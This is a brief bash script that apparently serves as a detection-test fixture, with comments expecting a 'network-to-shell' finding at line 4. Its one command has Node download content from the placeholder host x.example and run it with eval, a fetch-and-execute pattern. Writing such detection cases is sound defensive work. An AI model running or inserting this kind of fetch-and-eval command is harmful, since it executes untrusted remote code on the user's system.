#!/bin/bash
# shows: Node fetches and runs
# expect: network-to-shell at line 4
node -e "require('https').get('https://x.example', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })"
